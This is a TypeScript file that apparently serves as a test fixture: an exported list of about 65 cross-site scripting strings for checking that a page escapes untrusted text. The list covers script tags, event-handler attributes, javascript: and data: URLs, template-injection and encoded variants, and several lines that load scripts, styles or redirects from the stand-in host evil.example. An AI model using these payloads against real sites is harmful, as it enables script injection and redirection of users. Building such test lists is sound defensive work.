/** Texts that would run, load or change something if a page did not escape them. */
export const hostileTexts = [
  '<script>alert(1)</script>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<script src=//evil.example/x.js></script>',
  '<script>',

  '</script><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',

  '</style><script>alert(1)</script>',
  '--><script>alert(1)</script>',
  ']]><script>alert(1)</script>',

  '<img src=x onerror=alert(1)>',
  '<img src=x onerror="alert(1)"//',
  '<IMG SRC=x ONERROR=alert(1)>',
  '<img/src=x/onerror=alert(1)>',

  '<img src=`x` onerror=alert(1)>',
  '<img src=//evil.example/i.png>',
  '<image href=x onerror=alert(1)>',

  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1)>',

  '<svg><a href="javascript:alert(1)">x</a></svg>',
  '<math href="javascript:alert(1)">x',
  '<math><mi xlink:href=data:x>',

  '<iframe src="javascript:alert(1)">',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data="javascript:alert(1)">',

  '<embed src="javascript:alert(1)">',
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content=0;//evil.example>',

  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>*{display:none}</style>',
  '<style>@import"//evil.example"</style>',

  '<a href="javascript:alert(1)">x</a>',
  '<a href=" \tjavascript:alert(1)">x</a>',
  '<a href="data:text/html,x">x</a>',

  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  'data:text/html,<script>alert(1)</script>',

  'vbscript:msgbox(1)',
  '" onmouseover="alert(1)',
  "' onfocus='alert(1)' autofocus='",
  '" autofocus onfocus=alert(1) x="',

  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '`-alert(1)-`',
  `\${alert(1)}`,
  '{{constructor.constructor("alert(1)")()}}',

  '<%= alert(1) %>',
  '#{alert(1)}',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)>',

  '<body onload=alert(1)>',
  '<form action=//evil.example><button>x',
  '<marquee onstart=alert(1)>',
  '<x contenteditable onblur=alert(1)>',

  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '\\u003cscript\\u003ealert(1)',
  '+ADw-script+AD4-alert(1)',

  '[x](javascript:alert(1))',
  '![x](https://evil.example/i.png)',
  '\u202e<img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
] as const
